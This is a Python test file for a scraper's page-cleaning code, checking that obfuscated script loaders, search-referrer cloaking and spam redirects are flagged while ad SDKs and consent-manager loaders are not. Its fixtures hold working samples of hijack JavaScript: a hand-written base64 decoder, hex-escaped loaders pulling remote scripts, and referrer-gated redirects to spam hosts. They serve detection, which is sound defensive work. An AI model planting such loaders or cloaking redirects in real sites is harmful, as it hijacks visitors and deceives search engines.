"""Scripts judged by what their decoded code does (issue 11 §2, v2 misses 1.E, false flags FF1/FF2):
hidden loaders are caught in forms no list names; minified, escaped or bot-excluding code is not."""
from __future__ import annotations

import base64

from scraper.clean import clean_page
from scraper.clean.loaders import decode_script
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def hexed(word: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in word)


# A hand-written base64 decoder (no atob), as loader kits ship it.
DECODER = ("function q7(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=',t='',f=0,s,o,u,a;"
           "e=e.replace(/[^A-Za-z0-9+/=]/g,'');while(f<e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));"
           "u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));t+=String.fromCharCode(s<<2|o>>4);"
           "if(u!=64)t+=String.fromCharCode((o&15)<<4|u>>2);if(a!=64)t+=String.fromCharCode((u&3)<<6|a)}return t}")


def test_a_long_base64_literal_is_read_whoever_decodes_it():
    d = decode_script(f"var s=q7('{b64('https://cdn.lx-static9.net/app.js')}');var id='AbCdEfGhIjKlMnOpQrStUvWx';")
    assert '"https://cdn.lx-static9.net/app.js"' in d.text
    assert "AbCdEfGhIjKlMnOpQrStUvWx" in d.text  # base64 of no text: an identifier, kept as written


def test_loader_that_hides_its_address_behind_a_hand_written_decoder():
    code = DECODER + (f"eval('window')['{hexed('kQz')}']=function(){{var s=document['{hexed('createElement')}']('script');"
                      f"s.src=q7('{b64('https://code.jq-cdn7.net/flex.min.js')}');"
                      "document.getElementsByTagName('head')[0].appendChild(s)};window['kQz']();")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert a.hijacked
    assert any("jq-cdn7.net" in f.evidence for f in a.findings if f.kind == "spam_script")


def test_loader_for_visitors_from_a_search_engine_is_cloaking():
    code = DECODER + (f"eval('window')['{hexed('kQz')}']=function(){{var s=document['{hexed('createElement')}']('script');"
                      f"s.src=q7('{b64('https://code.jq-cdn7.net/flex.min.js')}');"
                      "document.getElementsByTagName('head')[0].appendChild(s)};"
                      f"if(document['{hexed('referrer')}'].length>0)window['kQz']();")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "spam_script"} <= kinds(a)


def test_an_ad_sdk_that_escapes_its_addresses_is_no_loader():
    # An ad vendor escapes its SDK's addresses (and its code) against blockers and loads them for
    # every visitor: the addresses are string constants any JS parser reads (v3 FF-H2).
    names = ("createElement", "script", "async", "src", "getElementsByTagName", "head", "appendChild")
    table = ",".join("'" + "".join(hexed(c) for c in w) + "'" for w in names)
    urls = ",".join("'" + "".join(hexed(c) for c in u) + "'"
                    for u in ("https://sdk.vidads-net.com/v2/player.js", "https://rec.vidads-net.com/status.js"))
    code = (f"(function(){{var n=[{table}],u=[{urls}];if(/bot|crawl/i.test(navigator.userAgent))return;"
            "for(var i=0;i<u.length;i++){var s=document[n[0]](n[1]);s[n[2]]=true;s[n[3]]=u[i];"
            "document[n[4]](n[5])[0][n[6]](s)}})();")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert not a.hijacked, a.findings



def test_loader_whose_src_is_a_variable_and_tag_name_is_built_from_pieces():
    # .src = u, u decoded inside an IIFE from its argument; "script" spelt from fragments
    code = DECODER + ("(function(u,r,d,c){u=q7(u);var s=d.createElement(r[2]+'cri'+c);s.src=u;"
                      "d.getElementsByTagName('head')[0].appendChild(s)})"
                      f"('{b64('https://lib.fast-js4.net/core.js')}','css',document,'pt');")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert any("fast-js4.net" in f.evidence for f in a.findings if f.kind == "spam_script")


def test_escaped_string_array_redirect_is_decoded_before_it_is_judged():
    # every action word \x-escaped: the raw code names none of them; the engine regex sits in a variable
    words = ["referrer", "test", "href", "location", "http://203.0.113.41/a/1.html"]
    array = ",".join(f'"{hexed(w)}"' for w in words)
    code = (f"var _0x9f=[{array}];var re=/\\.(sogou|baidu|google|bing)(\\.[a-z0-9\\-]+){{1,2}}\\//ig;"
            "var w=document[_0x9f[0x0]];if(re[_0x9f[0x1]](w)){window[_0x9f[0x3]][_0x9f[0x2]]=_0x9f[0x4]}")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)
    assert any("203.0.113.41" in f.evidence for f in a.findings if f.kind == "js_redirect")


def test_plain_redirect_gated_by_a_search_engine_regex_kept_in_a_variable():
    code = ("function go(){var now=new Date();if(now.getHours()<8){return}"
            "var regexp=/\\.(sogou|soso|baidu|google|bing)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;"
            "if(regexp.test(where)){window.location.href='http://www.qp-jump.top/o.php?u='+window.location.href}}go();")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_bot_exclusion_before_loading_a_consent_manager_is_no_cloaking():
    for code in (
        "var ua=navigator.userAgent;var bots=['googlebot','bingbot','baiduspider','applebot'];var isBot=0;"
        "for(var j=0;j<bots.length;j++){if(ua.toLowerCase().indexOf(bots[j])>-1){isBot=1}}"
        "if(isBot==0){var s=document.createElement('script');s.src='https://cdn.consent-hub.net/cmp.js';"
        "document.head.appendChild(s)}",
        "/crawler|spider|bot/i.test(window.navigator.userAgent)||function(){var s=document.createElement('script');"
        "s.src='https://meter.paywall-co.com/m.js';document.head.appendChild(s)}();",
    ):
        a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
        assert not a.hijacked, a.findings


def test_minified_string_tables_json_escapes_and_base64_config_are_no_obfuscation():
    table = ",".join(f'"{w}"' for w in ("push", "length", "script", "async", "src", "head"))
    minified = (f"!function(){{var t=[{table}];var e=document.createElement(t[2]);e[t[3]]=!0;"
                "e.src='https://ads.bidder-hub.com/tag.js';document[t[5]].appendChild(e)}();")
    escaped = ("var c=JSON.parse('" + "".join(hexed(ch) for ch in '{"a":1,"b":"x","c":[1,2,3],"d":"yyyy"}') + "');"
               "document.getElementById('w').innerHTML='<a href=\"https://shop.recipe-box.com/\">Shop</a>';")
    settings = b64('{"site":"x","tag":"https://ads.bidder-hub.com/t"}')
    config = (f"var cfg=JSON.parse(atob('{settings}'));"
              "var s=document.createElement('script');s.src='https://ads.bidder-hub.com/tag.js';document.head.appendChild(s);")
    for code in (minified, escaped, config):
        a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
        assert not a.hijacked, (code, a.findings)
